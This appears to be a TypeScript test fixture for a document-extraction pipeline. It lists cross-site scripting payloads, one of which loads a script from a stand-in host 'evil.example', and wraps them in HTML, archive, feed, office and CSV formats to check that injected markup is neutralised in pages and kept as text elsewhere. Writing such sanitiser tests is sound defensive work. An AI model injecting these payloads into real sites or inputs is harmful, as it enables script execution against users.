/** What would be a script elsewhere, and the formats that carry it in. */
import { makeDocx, makeOdt, makePage, makeRss, makeTar, makeWarc, makeXlsx, makeZip, STORY } from './make-files.ts';

/** Markup that runs somewhere: the mark `PWN` must not come out of a page as code, nor be lost from a text that only quotes it. */
export const PAYLOADS: readonly string[] = [
  '<script>PWN()</script>',
  '<ScRiPt src="//evil.example/PWN.js"></sCrIpT>',
  '<img src=x onerror="PWN()">',
  '<svg onload=PWN()><script>PWN()</script></svg>',
  '<iframe srcdoc="&lt;script&gt;PWN()&lt;/script&gt;"></iframe>',
  '<object data="javascript:PWN()"></object>',
  '<a href="javascript:PWN()">x</a>',
  '<math><mtext><style><img src=x onerror=PWN()></style></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=PWN()>"></noscript>',
  '<template><script>PWN()</script></template>',
  '<style>@import "javascript:PWN()";</style>',
  '<body onload="PWN()">',
  '<details open ontoggle=PWN()>',
  '<textarea><script>PWN()</script></textarea>',
];

type Carrier = readonly [name: string, make: (payload: string) => string | Uint8Array];

const paged = (payload: string): string => makePage('Bus held up', STORY).replace('<p>', `<p>${payload} `);

/** Formats in which marks are marks: what runs is gone. */
export const MARKED: readonly Carrier[] = [
  ['a.html', paged],
  ['a.warc', (payload) => makeWarc([{ url: 'https://p.example/', html: paged(payload) }])],
  ['a.zip', (payload) => makeZip({ 'a.html': paged(payload) })],
  ['a.tar', (payload) => makeTar({ 'a.html': paged(payload) })],
  ['a.xml', (payload) => makeRss([{ title: 'Bus', html: `<p>${payload} ${STORY}</p>` }])],
  ['a.jsonl', (payload) => `${JSON.stringify({ html: paged(payload) })}\n`],
];

/** Formats in which they are a writer's words: they stay, as words. */
export const QUOTED: readonly Carrier[] = [
  ['a.txt', (payload) => `${STORY} ${payload}`],
  ['a.docx', (payload) => makeDocx('Bus', [`${STORY} ${payload}`])],
  ['a.odt', (payload) => makeOdt('Bus', [`${STORY} ${payload}`])],
  [
    'a.xlsx',
    (payload) =>
      makeXlsx([
        ['Headline', 'Text', 'Date'],
        ['Bus', `${STORY} ${payload}`, 43955],
      ]),
  ],
  ['a.csv', (payload) => `title,text,date\nBus,"${`${STORY} ${payload}`.replace(/"/g, '""')}",2020-05-04\n`],
  ['a.jsonl', (payload) => `${JSON.stringify({ text: `${STORY} ${payload}`, url: 'javascript:PWN()' })}\n`],
];
